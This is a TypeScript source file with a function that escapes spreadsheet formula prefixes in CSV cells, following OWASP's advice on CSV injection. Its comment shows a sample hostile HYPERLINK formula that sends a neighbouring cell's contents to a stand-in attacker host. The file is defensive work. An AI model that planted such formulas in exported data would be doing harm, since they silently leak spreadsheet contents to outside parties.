// CSV cells that a spreadsheet will not run. Excel and LibreOffice take a cell that starts with
// =, +, -, @, a tab or a carriage return as a formula: =HYPERLINK("http://evil.test/?"&B2,"Click")
// in a ground truth becomes a live link that sends the next row's text away. OWASP's advice is
// followed: such a cell gets a leading single quote, which spreadsheets read as "this is text".
//
// Numbers stay numbers: a value that is a number (a gold label, a score) is written as it is, and
// so is a text that is just a number ("-3", "+0.5", "1e-3"): it cannot be a formula, and a quote
// would turn a negative score into text. Only CSV written for people goes through this; files for
// programs (ragas-csv for pandas) keep the exact text.

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/** The cell as a spreadsheet should see it: text that could start a formula gets a leading '. */
export function spreadsheetSafe<T>(cell: T): T | string {
  if (typeof cell !== 'string' || !FORMULA_START.test(cell) || PLAIN_NUMBER.test(cell)) return cell;
  return `'${cell}`;
}
